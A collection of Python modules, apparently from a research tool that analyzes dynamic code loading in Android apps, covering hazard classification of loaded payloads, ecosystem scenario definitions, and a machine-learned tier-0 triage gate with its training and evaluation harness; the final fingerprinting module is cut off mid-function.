        raise SystemExit("metrics export: {} is not a JSON object".format(args.metrics_file))
    # farm/evolve --metrics-out wraps the registry in a summary document.
    if isinstance(payload.get("registry"), dict):
        payload = payload["registry"]
    text = to_prometheus(payload)
    if args.out:
        with open(args.out, "w", encoding="utf-8") as handle:
            handle.write(text)
    else:
        sys.stdout.write(text)
    return 0


def cmd_families(_: argparse.Namespace) -> int:
    from repro.static_analysis.malware.families import TABLE_VII_FAMILIES, all_families

    for family in all_families():
        marker = "  (Table VII)" if family in TABLE_VII_FAMILIES else ""
        print(family + marker)
    return 0


def cmd_ecosystems(args: argparse.Namespace) -> int:
    from repro.ecosystems import ECOSYSTEMS

    if args.ecosystems_command == "list":
        width = max(len(key) for key in ECOSYSTEMS)
        for key in sorted(ECOSYSTEMS):
            spec = ECOSYSTEMS[key]
            print("{:<{w}}  {}".format(key, spec.title, w=width))
        return 0

    spec = ECOSYSTEMS.get(args.key)
    if spec is None:
        raise SystemExit(
            "ecosystems describe: unknown ecosystem {!r} (known: {})".format(
                args.key, ", ".join(sorted(ECOSYSTEMS))
            )
        )
    print("key:             ", spec.key)
    print("title:           ", spec.title)
    print("profile field:   ", spec.profile_field)
    print("calibrated count:", "{:,} of the paper corpus".format(spec.paper_count))
    print("hazard classes:  ", ", ".join(spec.hazard_classes))
    print("lineage mutation:", spec.lineage_mutation)
    print()
    print(spec.description)
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    handlers = {
        "measure": cmd_measure,
        "farm": cmd_farm,
        "evolve": cmd_evolve,
        "defend": cmd_defend,
        "triage": cmd_triage,
        "serve": cmd_serve,
        "submit": cmd_submit,
        "status": cmd_status,
        "top": cmd_top,
        "metrics": cmd_metrics,
        "store": cmd_store,
        "corpus": cmd_corpus,
        "ecosystems": cmd_ecosystems,
        "analyze": cmd_analyze,
        "families": cmd_families,
        "trace": cmd_trace,
    }
    try:
        return handlers[args.command](args)
    except KeyboardInterrupt:
        # ctrl-C on a long farm run / serve session: one line, conventional
        # 128+SIGINT exit status, no traceback wall.
        print("\n{}: interrupted".format(args.command), file=sys.stderr)
        return 130
    except BrokenPipeError:
        # output piped into head/less that exited early -- not an error.
        try:
            sys.stdout.close()
        except Exception:
            pass
        return 0


if __name__ == "__main__":
    raise SystemExit(main())
