"""Modern-DCL ecosystem scenario pack (plugin hosts, split APKs, staged
downloaders, self-debloating apps) layered over :mod:`repro.corpus`."""

from repro.ecosystems.hazards import (
    ALL_HAZARD_CLASSES,
    HAZARD_DROPPER_CHAIN,
    HAZARD_NAMESPACE_COLLISION,
    HAZARD_PLUGIN_HIJACK,
    HAZARD_SHELF_RELOAD,
    classify_hazards,
    container_package,
    payload_class_names,
)
from repro.ecosystems.registry import ECOSYSTEMS, EcosystemSpec, ecosystems_profile

__all__ = [
    "ALL_HAZARD_CLASSES",
    "HAZARD_DROPPER_CHAIN",
    "HAZARD_NAMESPACE_COLLISION",
    "HAZARD_PLUGIN_HIJACK",
    "HAZARD_SHELF_RELOAD",
    "ECOSYSTEMS",
    "EcosystemSpec",
    "classify_hazards",
    "container_package",
    "ecosystems_profile",
    "payload_class_names",
]
