"""The ecosystem scenario registry: what each scenario is and how to get it.

Each :class:`EcosystemSpec` binds one modern-DCL ecosystem to the corpus
profile knob that generates it, the hazard classes it triggers, and the
evolution mutation that churns it across lineage versions.  The registry
drives ``repro ecosystems list|describe`` and
:func:`ecosystems_profile`, the one-call "2026 mix" profile factory.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Dict, Optional, Tuple

from repro.corpus.profiles import CorpusProfile
from repro.ecosystems.hazards import (
    HAZARD_DROPPER_CHAIN,
    HAZARD_NAMESPACE_COLLISION,
    HAZARD_PLUGIN_HIJACK,
    HAZARD_SHELF_RELOAD,
)


@dataclass(frozen=True)
class EcosystemSpec:
    """One modern-DCL ecosystem scenario."""

    key: str
    title: str
    description: str
    #: CorpusProfile field holding the planted-app count.
    profile_field: str
    #: paper-scale planted population (out of 58,739 apps); scaled down
    #: via ``planted_count`` so every ecosystem survives at bench scale.
    paper_count: int
    #: hazard classes this ecosystem triggers in the pipeline.
    hazard_classes: Tuple[str, ...]
    #: lineage mutation name in :mod:`repro.evolution.lineage`.
    lineage_mutation: str


ECOSYSTEMS: Dict[str, EcosystemSpec] = {
    spec.key: spec
    for spec in (
        EcosystemSpec(
            key="plugin-host",
            title="Plugin / hot-update hosts",
            description=(
                "App-as-host loading a whole sub-app (own manifest fragment, "
                "components, classloader namespace) through a RePlugin/"
                "VirtualAPK-style framework SDK; the pack re-declares and "
                "redefines a host component."
            ),
            profile_field="n_plugin_host_apps",
            paper_count=2_400,
            hazard_classes=(HAZARD_PLUGIN_HIJACK, HAZARD_NAMESPACE_COLLISION),
            lineage_mutation="hot_update",
        ),
        EcosystemSpec(
            key="split-apk",
            title="Multi-dex and split-APK payloads",
            description=(
                "Secondary classesN.dex plus feature/config split APKs copied "
                "into the app's private splits/ dir and loaded through one "
                "classloader; the feature split shadows a host class and the "
                "runtime must fix the split load order."
            ),
            profile_field="n_split_apk_apps",
            paper_count=9_800,
            hazard_classes=(HAZARD_NAMESPACE_COLLISION,),
            lineage_mutation="split_update",
        ),
        EcosystemSpec(
            key="staged-downloader",
            title="Staged downloaders",
            description=(
                "Payload-fetches-payload dropper chains of configurable depth; "
                "each stage downloads the next from a different origin, so the "
                "final payload's provenance is a depth-N remote ancestry."
            ),
            profile_field="n_staged_downloader_apps",
            paper_count=310,
            hazard_classes=(HAZARD_DROPPER_CHAIN,),
            lineage_mutation="stage_update",
        ),
        EcosystemSpec(
            key="self-debloating",
            title="Self-debloating apps",
            description=(
                "Features shelved as dex assets behind in-app guard stubs and "
                "re-materialized under the private shelf/ dir on demand -- the "
                "inverse of the debloating rewriter, producing high-churn "
                "lineages."
            ),
            profile_field="n_self_debloating_apps",
            paper_count=1_150,
            hazard_classes=(HAZARD_SHELF_RELOAD,),
            lineage_mutation="reshelve",
        ),
    )
}


def ecosystems_profile(
    base: Optional[CorpusProfile] = None,
    staged_depth: int = 3,
) -> CorpusProfile:
    """The "2026 mix": a profile with every ecosystem population enabled.

    Counts are paper-scale, so ``planted_count`` keeps at least one app
    per ecosystem at any corpus size.  ``base`` defaults to the paper
    calibration; pass a customized profile to layer ecosystems on top.
    """
    profile = base or CorpusProfile()
    counts = {spec.profile_field: spec.paper_count for spec in ECOSYSTEMS.values()}
    return replace(profile, staged_downloader_depth=staged_depth, **counts)
