"""Hazard classification for the modern-DCL ecosystem scenario pack.

The paper's taxonomy (remote code, known malware, code injection) predates
app-as-host plugin frameworks, split APK delivery, dropper chains, and
self-debloating apps.  This module names the four hazard classes those
ecosystems introduce and classifies an intercepted payload against them
from facts the pipeline already has: the payload bytes, its provenance
chain, and the host app's component table / packaged class set.
"""

from __future__ import annotations

from typing import Optional, Sequence, Set, Tuple

from repro.android.apk import Apk, ApkFormatError
from repro.android.dex import DexFile, DexFormatError, is_dex_bytes
from repro.dynamic.provenance import Entity, Provenance

#: a foreign sub-app (an APK container whose own manifest names a package
#: other than the host's) defines a class matching a component declared by
#: the host manifest -- the classic plugin-framework component hijack.
#: The container test matters: a packer's decrypted payload legitimately
#: carries the host's real components and must not match.
HAZARD_PLUGIN_HIJACK = "plugin-hijack"
#: a loaded payload redefines a class already packaged in the host's own
#: dex files (plugin packs and feature splits shadowing host code).
HAZARD_NAMESPACE_COLLISION = "namespace-collision"
#: a payload whose remote ancestry spans two or more distinct origins --
#: a payload-fetches-payload dropper chain.
HAZARD_DROPPER_CHAIN = "dropper-chain"
#: the app re-loading its own shelved (debloated) code from its private
#: ``shelf/`` store -- high-churn lineage material, not third-party code.
HAZARD_SHELF_RELOAD = "shelf-reload"

ALL_HAZARD_CLASSES: Tuple[str, ...] = (
    HAZARD_PLUGIN_HIJACK,
    HAZARD_NAMESPACE_COLLISION,
    HAZARD_DROPPER_CHAIN,
    HAZARD_SHELF_RELOAD,
)


def payload_class_names(data: bytes) -> Set[str]:
    """Class names defined by a payload: bare DEX or APK/split container."""
    if is_dex_bytes(data):
        try:
            return {cls.name for cls in DexFile.from_bytes(data).classes}
        except DexFormatError:
            return set()
    if data.startswith(b"PK\x03\x04"):
        try:
            container = Apk.from_bytes(data)
        except ApkFormatError:
            return set()
        names: Set[str] = set()
        for dex in container.dex_files():
            names.update(cls.name for cls in dex.classes)
        return names
    return set()


def container_package(data: bytes) -> Optional[str]:
    """The embedded manifest package of an APK-container payload.

    ``None`` for anything that is not a parseable APK/split container --
    bare DEX payloads have no package identity of their own.
    """
    if not data.startswith(b"PK\x03\x04"):
        return None
    try:
        return Apk.from_bytes(data).manifest.package
    except ApkFormatError:
        return None


def classify_hazards(
    path: str,
    data: bytes,
    entity: Entity,
    provenance: Provenance,
    remote_sources: Sequence[str],
    component_names: Set[str],
    host_classes: Set[str],
    app_package: str = "",
) -> Tuple[str, ...]:
    """The ecosystem hazard classes one intercepted payload triggers.

    ``component_names`` is the host manifest's component table and
    ``host_classes`` the set of classes packaged in the host's own dex
    files; both come from the APK under analysis, not from the runtime.
    Returned in :data:`ALL_HAZARD_CLASSES` order, deterministic.
    """
    hazards = []
    defined = payload_class_names(data)
    sub_app = container_package(data)
    if (
        sub_app is not None
        and sub_app != app_package
        and defined & component_names
    ):
        hazards.append(HAZARD_PLUGIN_HIJACK)
    if defined & host_classes:
        hazards.append(HAZARD_NAMESPACE_COLLISION)
    if len(set(remote_sources)) >= 2:
        hazards.append(HAZARD_DROPPER_CHAIN)
    if (
        provenance is Provenance.LOCAL
        and entity is Entity.OWN
        and "/shelf/" in path
    ):
        hazards.append(HAZARD_SHELF_RELOAD)
    return tuple(hazards)
