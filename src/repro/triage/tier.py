"""The tier-0 gate: score a session's fingerprint, maybe skip tier 1.

The gate sits *between* the verdict-store probe and the full analyzers:
per payload the pipeline still consults the per-process LRU and the
cross-process :class:`~repro.store.verdicts.VerdictStore` first (a stored
tier-1 verdict always beats a prediction), and only on a store miss does a
confident triage decision stand in for DroidNative/FlowDroid.

Two invariants keep triage safe:

- **no store poisoning** -- triage-synthesized verdicts are never written
  to the LRU caches or published to the verdict store; only tier-1
  results are, so a misclassification can't outlive the app it happened
  on.
- **hard-example harvesting** -- every undecided (fall-through) app runs
  the full pipeline anyway, and its tier-1 label is appended to a
  ``<model>.harvest.jsonl`` sidecar (flock'd, multi-process safe) that
  the next ``repro triage train --harvest`` folds back in.
"""

from __future__ import annotations

import fcntl
import json
from dataclasses import dataclass
from typing import Dict, Optional

from repro.static_analysis.malware.droidnative import Detection
from repro.triage.fingerprint import TriageFingerprint, fingerprint_session
from repro.triage.model import TriageError, TriageModel

#: default confidence bar: decide only when max(p, 1-p) clears this.
DEFAULT_THRESHOLD = 0.9

#: the synthetic family stamped on triage-suspected detections.
SUSPECTED_FAMILY = "triage.suspected"


@dataclass
class TriageDecision:
    """One app's tier-0 outcome."""

    package: str
    fingerprint: TriageFingerprint
    probability: float          # P(hazard)
    threshold: float

    @property
    def confidence(self) -> float:
        return max(self.probability, 1.0 - self.probability)

    @property
    def decided(self) -> bool:
        return self.confidence >= self.threshold

    @property
    def label(self) -> str:
        """"hazard" | "benign" when decided, "" on fall-through."""
        if not self.decided:
            return ""
        return "hazard" if self.probability >= 0.5 else "benign"

    def to_dict(self) -> Dict[str, object]:
        return {
            "package": self.package,
            "digest": self.fingerprint.digest,
            "probability": round(self.probability, 6),
            "confidence": round(self.confidence, 6),
            "threshold": self.threshold,
            "decided": self.decided,
            "label": self.label,
        }


def full_pipeline_label(analysis) -> int:
    """Tier-1 ground-truth label (1 = hazard) for a finished analysis.

    Mirrors the hazard classes of
    :func:`repro.defense.evaluation.hazard_kind`: a flagged-malicious
    payload (known-malware), a code-injection vulnerability finding, or a
    remotely fetched payload (remote-code).
    """
    if any(p.is_malicious for p in analysis.payloads):
        return 1
    if analysis.vulnerabilities:
        return 1
    if any(p.remote_sources for p in analysis.payloads):
        return 1
    return 0


class TriageGate:
    """Scores sessions against a loaded model and harvests hard examples."""

    def __init__(
        self,
        model: TriageModel,
        threshold: float = DEFAULT_THRESHOLD,
        harvest_path: str = "",
    ) -> None:
        if not 0.5 <= threshold <= 1.0:
            raise TriageError(
                "triage threshold must be in [0.5, 1.0], got {}".format(threshold)
            )
        self.model = model
        self.threshold = threshold
        self.harvest_path = harvest_path
        self.harvested = 0

    @classmethod
    def from_config(cls, config) -> Optional["TriageGate"]:
        """Build the gate a :class:`DyDroidConfig` asks for (or ``None``)."""
        if not config.triage_model:
            return None
        model = TriageModel.load(config.triage_model)
        return cls(
            model,
            threshold=config.triage_threshold or DEFAULT_THRESHOLD,
            harvest_path=config.triage_model + ".harvest.jsonl",
        )

    # -- scoring ---------------------------------------------------------------

    def assess(self, package: str, dynamic) -> TriageDecision:
        fingerprint = fingerprint_session(package, dynamic)
        return TriageDecision(
            package=package,
            fingerprint=fingerprint,
            probability=self.model.predict_proba(fingerprint.vector),
            threshold=self.threshold,
        )

    def suspected_detection(self, decision: TriageDecision) -> Detection:
        """The synthetic detection a confident "hazard" verdict carries."""
        return Detection(
            family=SUSPECTED_FAMILY,
            score=decision.probability,
            matched_sample_id="triage",
            matched_functions=0,
            total_functions=0,
        )

    # -- online hard-example harvesting ---------------------------------------

    def harvest(self, decision: TriageDecision, label: int) -> None:
        """Record a fall-through's tier-1 label as new training data."""
        self.harvested += 1
        if not self.harvest_path:
            return
        record = {
            "package": decision.package,
            "digest": decision.fingerprint.digest,
            "probability": round(decision.probability, 6),
            "label": int(label),
            "features": {
                k: decision.fingerprint.features[k]
                for k in sorted(decision.fingerprint.features)
            },
        }
        line = json.dumps(record, sort_keys=True, separators=(",", ":")) + "\n"
        with open(self.harvest_path, "a", encoding="utf-8") as handle:
            fcntl.flock(handle.fileno(), fcntl.LOCK_EX)
            try:
                handle.write(line)
                handle.flush()
            finally:
                fcntl.flock(handle.fileno(), fcntl.LOCK_UN)


def load_harvest(path: str):
    """Yield ``(vector, label)`` pairs from a harvest sidecar (torn-tail
    tolerant: a partial final line from a killed writer is skipped)."""
    from repro.triage.fingerprint import vectorize

    samples = []
    try:
        with open(path, "r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if not line:
                    continue
                try:
                    record = json.loads(line)
                except ValueError:
                    continue
                samples.append(
                    (vectorize(record["features"]), int(record["label"]))
                )
    except OSError:
        return []
    return samples
