"""Tier-0 behavioral-fingerprint triage: cheap verdicts before tier 1.

Layout:

- :mod:`repro.triage.fingerprint` -- deterministic, shard-invariant
  hashed feature vectors from one dynamic session;
- :mod:`repro.triage.model` -- stdlib logistic regression over the hashed
  space, versioned JSON serialization;
- :mod:`repro.triage.tier` -- the runtime gate the pipeline consults
  between the verdict-store probe and the full analyzers;
- :mod:`repro.triage.harness` -- train/eval over seeded corpus splits
  (imported by the CLI, not re-exported here: it pulls in the pipeline).
"""

from repro.triage.fingerprint import (
    FINGERPRINT_VERSION,
    N_FEATURES,
    TriageFingerprint,
    fingerprint_session,
    vectorize,
)
from repro.triage.model import MODEL_VERSION, TriageError, TriageModel, train_model
from repro.triage.tier import (
    DEFAULT_THRESHOLD,
    TriageDecision,
    TriageGate,
    full_pipeline_label,
)

__all__ = [
    "DEFAULT_THRESHOLD",
    "FINGERPRINT_VERSION",
    "MODEL_VERSION",
    "N_FEATURES",
    "TriageDecision",
    "TriageError",
    "TriageFingerprint",
    "TriageGate",
    "TriageModel",
    "fingerprint_session",
    "full_pipeline_label",
    "train_model",
    "vectorize",
]
