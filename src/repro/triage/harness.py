"""Train/eval harness for the tier-0 gate (``repro triage train|eval``).

Training runs an *analyzer-free* pipeline pass (malware/privacy/replays
off) over the train half of a seeded :meth:`CorpusGenerator.split` -- the
dynamic traces are all the fingerprint needs, so labelling a corpus costs
a fraction of a full measurement.  Labels come from corpus ground truth
(:func:`repro.defense.evaluation.hazard_kind`), restricted to apps whose
session actually intercepted a payload: that is exactly the population the
runtime gate ever scores.

Evaluation runs the *full* pipeline (triage off) over the held-out test
half as ground truth and scores the model's would-be decisions offline:
precision among decided apps, effective hazard recall (a fall-through is
never a miss -- it runs tier 1), and false-positive rate.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig
from repro.corpus.generator import CorpusGenerator
from repro.defense.evaluation import hazard_kind
from repro.triage.fingerprint import TriageFingerprint, fingerprint_session
from repro.triage.model import (
    DEFAULT_EPOCHS,
    DEFAULT_L2,
    DEFAULT_LEARNING_RATE,
    TriageError,
    TriageModel,
    train_model,
)
from repro.triage.tier import (
    DEFAULT_THRESHOLD,
    TriageGate,
    full_pipeline_label,
    load_harvest,
)

#: default corpus fraction used for training (rest is held out for eval).
DEFAULT_SPLIT_RATIO = 0.5

#: default number of auxiliary training corpora.  Rare hazard roles are
#: planted ~once per corpus (:meth:`CorpusProfile.planted_count` floors at
#: 1), so the train half of a single split can randomly lack a whole
#: hazard class; extra corpora generated from derived seeds multiply the
#: hazard examples without ever touching the eval corpus's apps.
DEFAULT_AUX_CORPORA = 2


def _aux_seed(seed: int, k: int) -> int:
    """Seed of the k-th auxiliary training corpus (disjoint app universe)."""
    return seed + 1000 * (k + 1) + 17


def _trace_config(base: Optional[DyDroidConfig]) -> DyDroidConfig:
    """The cheap trace-collection pass: dynamic stage only, no analyzers."""
    return replace(
        base or DyDroidConfig(),
        run_malware=False,
        run_privacy=False,
        run_replays=False,
        triage_model="",
    )


def _full_config(base: Optional[DyDroidConfig]) -> DyDroidConfig:
    """The ground-truth pass: full analyzers, triage off."""
    return replace(base or DyDroidConfig(), run_replays=False, triage_model="")


@dataclass
class LabelledSession:
    """One analyzed app the harness can train or evaluate on."""

    package: str
    corpus_index: int
    fingerprint: TriageFingerprint
    label: int            # 1 = hazard
    hazard: str = ""      # ground-truth hazard class ("" = benign)


def _sessions(
    config: DyDroidConfig, n_apps: int, seed: int, indices: List[int], labeller
) -> List[LabelledSession]:
    """Analyze ``indices`` of the corpus and fingerprint the payload apps."""
    from repro.core.pipeline import DyDroid

    generator = CorpusGenerator(seed=seed)
    blueprints = {b.index: b for b in generator.sample_blueprints(n_apps)}
    pipeline = DyDroid(config)
    sessions = []
    try:
        for record in generator.records_at(n_apps, indices):
            analysis = pipeline.analyze_app(record)
            dynamic = analysis.dynamic
            if dynamic is None or not dynamic.intercepted_any:
                continue  # the runtime gate never sees payload-less apps
            blueprint = blueprints[analysis.corpus_index]
            sessions.append(
                LabelledSession(
                    package=analysis.package,
                    corpus_index=analysis.corpus_index,
                    fingerprint=fingerprint_session(analysis.package, dynamic),
                    label=labeller(blueprint, analysis),
                    hazard=hazard_kind(blueprint),
                )
            )
    finally:
        pipeline.close()
    return sessions


def train_triage_model(
    n_apps: int,
    seed: int = 7,
    ratio: float = DEFAULT_SPLIT_RATIO,
    split_seed: int = 0,
    epochs: int = DEFAULT_EPOCHS,
    learning_rate: float = DEFAULT_LEARNING_RATE,
    l2: float = DEFAULT_L2,
    train_seed: int = 0,
    harvest: str = "",
    aux_corpora: int = DEFAULT_AUX_CORPORA,
    config: Optional[DyDroidConfig] = None,
) -> Tuple[TriageModel, Dict[str, object]]:
    """Train on the train half of the seeded split; returns (model, summary).

    Besides the train half, ``aux_corpora`` whole corpora generated from
    derived seeds join the training set -- disjoint app universes, so the
    held-out eval apps still never leak into training.
    """
    trace_config = _trace_config(config)
    label_blueprint = lambda blueprint, analysis: int(hazard_kind(blueprint) != "")  # noqa: E731
    train_indices, _ = CorpusGenerator(seed=seed).split(n_apps, ratio, split_seed)
    sessions = _sessions(trace_config, n_apps, seed, train_indices, label_blueprint)
    aux_sessions = 0
    for k in range(aux_corpora):
        extra = _sessions(
            trace_config, n_apps, _aux_seed(seed, k), list(range(n_apps)),
            label_blueprint,
        )
        aux_sessions += len(extra)
        sessions.extend(extra)
    samples = [(s.fingerprint.vector, s.label) for s in sessions]
    harvested = load_harvest(harvest) if harvest else []
    samples.extend(harvested)
    if not samples:
        raise TriageError(
            "no training samples: none of the {} train-split apps "
            "intercepted a payload".format(len(train_indices))
        )
    model = train_model(
        samples, epochs=epochs, learning_rate=learning_rate, l2=l2, seed=train_seed
    )
    model.train_config.update(
        {
            "corpus_seed": seed,
            "corpus_n_apps": n_apps,
            "split_ratio": ratio,
            "split_seed": split_seed,
            "aux_corpora": aux_corpora,
            "harvested": len(harvested),
        }
    )
    summary = {
        "train_apps": len(train_indices) + aux_corpora * n_apps,
        "train_sessions": len(sessions),
        "aux_sessions": aux_sessions,
        "harvested": len(harvested),
        "n_hazard": sum(label for _, label in samples),
        "n_samples": len(samples),
        "config_fingerprint": model.config_fingerprint,
    }
    return model, summary


@dataclass
class TriageEvaluation:
    """Held-out scorecard of a model against the full pipeline."""

    threshold: float
    n_apps: int
    seed: int
    test_indices: List[int] = field(default_factory=list)
    true_positive: int = 0
    false_positive: int = 0
    true_negative: int = 0
    false_negative: int = 0
    fallthrough_hazard: int = 0
    fallthrough_benign: int = 0
    #: confidently-benign apps the full pipeline labels hazardous.
    missed: List[Dict[str, object]] = field(default_factory=list)

    @property
    def n_sessions(self) -> int:
        return (
            self.true_positive
            + self.false_positive
            + self.true_negative
            + self.false_negative
            + self.fallthrough_hazard
            + self.fallthrough_benign
        )

    @property
    def n_decided(self) -> int:
        return self.n_sessions - self.fallthrough_hazard - self.fallthrough_benign

    @property
    def n_hazard(self) -> int:
        return self.true_positive + self.false_negative + self.fallthrough_hazard

    @property
    def n_benign(self) -> int:
        return self.false_positive + self.true_negative + self.fallthrough_benign

    @property
    def recall(self) -> float:
        """Effective hazard recall: fall-throughs run tier 1, so they count."""
        if not self.n_hazard:
            return 1.0
        return (self.true_positive + self.fallthrough_hazard) / self.n_hazard

    @property
    def precision(self) -> float:
        flagged = self.true_positive + self.false_positive
        return self.true_positive / flagged if flagged else 1.0

    @property
    def false_positive_rate(self) -> float:
        return self.false_positive / self.n_benign if self.n_benign else 0.0

    @property
    def short_circuit_rate(self) -> float:
        return self.n_decided / self.n_sessions if self.n_sessions else 0.0

    def to_dict(self) -> Dict[str, object]:
        return {
            "threshold": self.threshold,
            "n_apps": self.n_apps,
            "seed": self.seed,
            "test_indices": list(self.test_indices),
            "sessions": self.n_sessions,
            "decided": self.n_decided,
            "hazards": self.n_hazard,
            "benign": self.n_benign,
            "true_positive": self.true_positive,
            "false_positive": self.false_positive,
            "true_negative": self.true_negative,
            "false_negative": self.false_negative,
            "fallthrough_hazard": self.fallthrough_hazard,
            "fallthrough_benign": self.fallthrough_benign,
            "recall": round(self.recall, 4),
            "precision": round(self.precision, 4),
            "false_positive_rate": round(self.false_positive_rate, 4),
            "short_circuit_rate": round(self.short_circuit_rate, 4),
            "missed": list(self.missed),
        }

    def render(self) -> str:
        lines = [
            "TRIAGE EVALUATION: threshold {} over {} held-out payload apps "
            "({} of {} corpus apps, seed {})".format(
                self.threshold,
                self.n_sessions,
                len(self.test_indices),
                self.n_apps,
                self.seed,
            ),
            "=" * 74,
            "{:<34}{:>10}".format("Decided (tier 1 skipped)", self.n_decided),
            "{:<34}{:>10}".format(
                "Fell through to tier 1",
                self.fallthrough_hazard + self.fallthrough_benign,
            ),
            "{:<34}{:>10}".format("True positives", self.true_positive),
            "{:<34}{:>10}".format("False positives", self.false_positive),
            "{:<34}{:>10}".format("True negatives", self.true_negative),
            "{:<34}{:>10}".format("Missed hazards (FN)", self.false_negative),
            "-" * 74,
            "{:<34}{:>10.1%}".format("Hazard recall (effective)", self.recall),
            "{:<34}{:>10.1%}".format("Precision (decided hazards)", self.precision),
            "{:<34}{:>10.1%}".format("False-positive rate", self.false_positive_rate),
            "{:<34}{:>10.1%}".format("Short-circuit rate", self.short_circuit_rate),
        ]
        for miss in self.missed:
            lines.append(
                "  MISSED {} (p={}, full pipeline: {})".format(
                    miss["package"], miss["probability"], miss["hazard"] or "hazard"
                )
            )
        return "\n".join(lines)


def evaluate_triage(
    model: TriageModel,
    n_apps: int,
    seed: int = 7,
    threshold: float = DEFAULT_THRESHOLD,
    ratio: float = DEFAULT_SPLIT_RATIO,
    split_seed: int = 0,
    config: Optional[DyDroidConfig] = None,
) -> TriageEvaluation:
    """Score the model on the held-out half, full pipeline as ground truth."""
    _, test_indices = CorpusGenerator(seed=seed).split(n_apps, ratio, split_seed)
    sessions = _sessions(
        _full_config(config),
        n_apps,
        seed,
        test_indices,
        labeller=lambda blueprint, analysis: full_pipeline_label(analysis),
    )
    gate = TriageGate(model, threshold=threshold)
    evaluation = TriageEvaluation(
        threshold=threshold, n_apps=n_apps, seed=seed, test_indices=test_indices
    )
    for session in sessions:
        probability = model.predict_proba(session.fingerprint.vector)
        confidence = max(probability, 1.0 - probability)
        if confidence < gate.threshold:
            if session.label:
                evaluation.fallthrough_hazard += 1
            else:
                evaluation.fallthrough_benign += 1
            continue
        predicted_hazard = probability >= 0.5
        if predicted_hazard and session.label:
            evaluation.true_positive += 1
        elif predicted_hazard:
            evaluation.false_positive += 1
        elif session.label:
            evaluation.false_negative += 1
            evaluation.missed.append(
                {
                    "package": session.package,
                    "corpus_index": session.corpus_index,
                    "probability": round(probability, 4),
                    "hazard": session.hazard,
                }
            )
        else:
            evaluation.true_negative += 1
    return evaluation
