"""Behavioral fingerprints: one dynamic session -> a compact feature vector.

DySign-style triage needs a representation that is (a) cheap to build from
what the dynamic stage already collected, (b) *deterministic* -- the same
session must fingerprint byte-identically across process restarts, shard
counts, and trace-event interleavings -- and (c) fixed-width, so a single
model file scores every app.

Every feature is therefore order-invariant by construction: histograms
accumulate by addition, path/call-site sets are sorted before hashing, and
nothing timestamp- or id-derived enters the feature dict.  Hashing uses
sha256 (never the builtin ``hash``, whose per-process randomization would
break restart determinism) to map feature names into ``N_FEATURES``
buckets with a deterministic sign, the standard hashing-trick layout.

App-package-specific path components are rewritten to a ``<pkg>``
placeholder so the model learns "loads plugin_core.jar from its files
dir", not the package name of one corpus app.
"""

from __future__ import annotations

import hashlib
import json
import math
from dataclasses import dataclass, field
from typing import Dict, List

#: fixed feature-vector width; part of the model-compatibility contract.
N_FEATURES = 256

#: bump when the feature extraction below changes incompatibly; serialized
#: into fingerprints and model files so stale models fail loudly.
FINGERPRINT_VERSION = 1


def _bucket(name: str) -> int:
    """Deterministic feature index in ``[0, N_FEATURES)``."""
    digest = hashlib.sha256(name.encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big") % N_FEATURES


def _sign(name: str) -> float:
    """Deterministic +-1 sign, decorrelating colliding features."""
    digest = hashlib.sha256(name.encode("utf-8")).digest()
    return 1.0 if digest[8] & 1 else -1.0


def _squash(value: float) -> float:
    """log1p squashing so busy sessions don't drown the rare features."""
    return math.log1p(abs(value)) * (1.0 if value >= 0 else -1.0)


def _normalize_path(path: str, package: str) -> str:
    """Replace the app's own package in a path with a ``<pkg>`` marker."""
    return path.replace(package, "<pkg>") if package else path


def _top_dir(path: str) -> str:
    parts = [p for p in path.split("/") if p]
    return parts[0] if parts else ""


def _basename(path: str) -> str:
    return path.rsplit("/", 1)[-1]


def _dirname(path: str) -> str:
    return path.rsplit("/", 1)[0] if "/" in path else ""


def _shape(name: str) -> str:
    """Digit-stripped basename: ``libengine375.so`` -> ``libengine#.so``.

    Generated payload names carry per-app random numbers; collapsing every
    digit run to ``#`` turns them into one transferable vocabulary entry.
    """
    out: List[str] = []
    in_digits = False
    for ch in name:
        if ch.isdigit():
            if not in_digits:
                out.append("#")
            in_digits = True
        else:
            out.append(ch)
            in_digits = False
    return "".join(out)


def _size_bucket(n_bytes: int) -> int:
    return int(math.log2(n_bytes + 1))


@dataclass
class TriageFingerprint:
    """One session's behavioral fingerprint: named features + hashed vector."""

    package: str
    features: Dict[str, float]
    vector: List[float] = field(default_factory=list)
    digest: str = ""

    def to_dict(self) -> Dict[str, object]:
        return {
            "version": FINGERPRINT_VERSION,
            "package": self.package,
            "features": {k: self.features[k] for k in sorted(self.features)},
            "digest": self.digest,
        }


def vectorize(features: Dict[str, float]) -> List[float]:
    """Hash a named-feature dict into the fixed-width vector.

    Iteration is over the *sorted* feature names so float accumulation
    order -- and therefore the exact bit pattern of every component -- is
    independent of extraction order.
    """
    vector = [0.0] * N_FEATURES
    for name in sorted(features):
        vector[_bucket(name)] += _sign(name) * _squash(features[name])
    return vector


def fingerprint_digest(features: Dict[str, float]) -> str:
    """sha256 over the canonical JSON form of the feature dict."""
    canonical = json.dumps(
        {"version": FINGERPRINT_VERSION, "features": features},
        sort_keys=True,
        separators=(",", ":"),
    )
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()


def fingerprint_session(package: str, dynamic) -> TriageFingerprint:
    """Build the fingerprint of one dynamic session (live ``DynamicReport``).

    Consumes only session-local state, so the result is identical whether
    the app ran serially, on a 4-shard farm, or in a service worker.
    """
    features: Dict[str, float] = {}

    def add(name: str, value: float = 1.0) -> None:
        features[name] = features.get(name, 0.0) + value

    outcome = getattr(dynamic.outcome, "value", dynamic.outcome)
    add("outcome:{}".format(outcome))
    add("events_run", float(dynamic.events_run))
    add("coverage_bucket:{}".format(int(dynamic.method_coverage * 10)))
    if dynamic.crash_reason:
        add("crashed")
    if dynamic.rewritten:
        add("rewritten")
    add("storage_cleanups", float(dynamic.storage_cleanups))
    add("exfiltrated", float(len(dynamic.exfiltrated)))

    # DCL shape: counts + loader/API dispatch histograms (order-invariant).
    dcl = dynamic.dcl
    add("dex_events", float(len(dcl.dex_events)))
    add("native_events", float(len(dcl.native_events)))
    add("rejected_events", float(len(dcl.rejected_events)))
    for event in dcl.dex_events:
        add("loader:{}".format(event.loader_kind))
    for event in dcl.native_events:
        add("native_api:{}".format(event.api))

    # Loaded-path vocabulary (sorted distinct; first-seen order discarded).
